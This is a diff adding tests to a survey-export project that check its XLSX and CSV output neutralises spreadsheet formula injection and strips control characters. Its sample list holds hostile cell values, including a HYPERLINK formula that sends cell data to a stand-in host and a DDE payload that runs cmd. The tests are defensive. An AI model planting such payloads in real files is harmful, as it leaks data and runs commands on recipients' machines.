@@ -90,3 +90,62 @@ def test_csv_zip_has_one_file_per_table_with_the_header(view: SnapshotView) -> N
     scores = list(csv.reader(io.StringIO(text), delimiter=";"))
     mean = scores[6].index("Gennemsnit")
     assert any("," in row[mean] for row in scores[7:])  # decimal comma
+
+
+# Issue 12, items 1 and 2: text from respondents and administrators is never a formula and
+# never breaks the file, also when it was stored before cleaning at the door began.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+    "ny\x0blinje og ESC\x1b[31m",
+]
+
+
+def _hostile_view(view: SnapshotView) -> SnapshotView:
+    import copy
+    import dataclasses
+
+    import pandas as pd
+
+    from surveys.snapshots.tables import SnapshotTable
+
+    content = copy.deepcopy(view.snapshot.content)
+    content["project"]["name"] = "=1+2"
+    snapshot = dataclasses.replace(view.snapshot, content=content)
+    frame = pd.DataFrame({"Kommentar": HOSTILE, "Forskel": ["-3,5"] * len(HOSTILE)})
+    table = SnapshotTable("kommentarer_x", "@Kommentarer", frame, note="=note")
+    return dataclasses.replace(
+        view, snapshot=snapshot, header=((*view.header[0][:1], "=1+2"),), tables=(table,)
+    )
+
+
+def test_xlsx_stores_formula_like_text_as_text_and_survives_control_characters(
+    view: SnapshotView,
+) -> None:
+    hostile = _hostile_view(view)
+    book = load_workbook(io.BytesIO(render_xlsx(hostile)))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert HOSTILE[0] in texts and "=1+2" in texts
+    assert "nylinje og ESC[31m" in texts
+    formula_like = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r"]
+    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like if c.value != "-3,5")
+
+
+def test_csv_neutralises_formulas_as_owasp_says(view: SnapshotView) -> None:
+    hostile = _hostile_view(view)
+    archive = zipfile.ZipFile(io.BytesIO(render_csv_zip(hostile)))
+    text = archive.read("kommentarer_x.csv").decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    fields = [field for row in rows for field in row]
+    assert fields, text
+    assert not [f for f in fields if f[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [f for f in fields if f.startswith("-") and f != "-3,5"]
+    assert "'" + HOSTILE[0] in fields and "'=1+2" in fields
+    assert "nylinje og ESC[31m" in fields
+    assert "\x0b" not in text and "\x1b" not in text
